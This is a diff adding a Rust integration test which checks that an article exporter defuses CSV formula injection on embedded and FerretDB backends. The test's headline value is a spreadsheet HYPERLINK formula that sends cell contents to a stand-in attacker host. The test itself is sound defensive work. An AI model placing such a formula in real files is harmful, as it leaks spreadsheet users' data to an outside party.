@@ -78,6 +78,37 @@ async fn exports_hold_what_the_graphql_filter_matches(app: &TestApp) {
     }
 }
 
+/// A headline an attacker wrote as a spreadsheet formula arrives in the CSV
+/// as text (a leading `'`), and unchanged in NDJSON.
+async fn csv_cells_never_start_a_formula(app: &TestApp) {
+    let headline = r#"=HYPERLINK("http://attacker.example/?leak="&A1, "Click")"#;
+    let text = "Officials met in Vienna on Tuesday.\n\n\"We will keep talking,\" said John Kerry, the U.S. \
+                Secretary of State, after the meeting.";
+    let ingested = app
+        .data(
+            "mutation($input: IngestArticleInput!) { ingestArticle(input: $input) { article { key } } }",
+            json!({ "input": { "text": text, "headline": headline } }),
+        )
+        .await;
+    let key = ingested["ingestArticle"]["article"]["key"].as_str().unwrap().to_owned();
+
+    let csv = export(app, "articles.csv", "", "").await.text().await.unwrap();
+    let mut reader = csv_reader(&csv);
+    let row = reader
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r.get(1) == Some(key.as_str()))
+        .unwrap_or_else(|| panic!("the ingested article {key} is exported: {csv}"));
+    assert_eq!(row.get(2), Some(format!("'{headline}").as_str()), "the formula is defused");
+    for cell in reader.records().map(Result::unwrap).flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>()) {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "no cell starts a formula: {cell:?}");
+    }
+
+    let ndjson = export(app, "articles.ndjson", "", "").await.text().await.unwrap();
+    let line = ndjson.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|l| l["key"] == key.as_str());
+    assert_eq!(line.expect("the article is in NDJSON")["headline"], headline, "NDJSON is data, left as it is");
+}
+
 fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
     csv::Reader::from_reader(text.as_bytes())
 }
@@ -89,6 +120,13 @@ mod embedded {
         super::exports_hold_what_the_graphql_filter_matches(&app).await;
         app.cleanup().await;
     }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn csv_cells_never_start_a_formula() {
+        let app = crate::helpers::spawn_app(crate::support::TestBackend::Embedded).await;
+        super::csv_cells_never_start_a_formula(&app).await;
+        app.cleanup().await;
+    }
 }
 
 mod ferretdb {
@@ -96,6 +134,13 @@ mod ferretdb {
     async fn exports_hold_what_the_graphql_filter_matches() {
         let app = crate::helpers::spawn_app(crate::support::TestBackend::FerretDb).await;
         super::exports_hold_what_the_graphql_filter_matches(&app).await;
+        app.cleanup().await;
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn csv_cells_never_start_a_formula() {
+        let app = crate::helpers::spawn_app(crate::support::TestBackend::FerretDb).await;
+        super::csv_cells_never_start_a_formula(&app).await;
         app.cleanup().await;
     }
 }
